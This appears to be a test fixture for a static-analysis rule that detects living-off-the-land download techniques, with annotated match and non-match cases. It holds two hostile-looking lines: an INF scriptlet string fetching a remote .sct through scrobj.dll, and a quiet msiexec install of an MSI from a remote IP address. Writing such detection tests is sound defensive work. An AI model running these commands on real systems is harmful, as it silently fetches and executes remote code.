import subprocess
# ruleid: lolbin_download
INF = "%11%\\scrobj.dll,NI,http://198.51.100.99/vpn/profile.sct"
# ruleid: lolbin_download
subprocess.Popen("msiexec /quiet /i http://198.51.100.7/agent.msi", shell=True)
# ok: lolbin_download
subprocess.run(["msiexec", "/i", local_msi, "/quiet"])
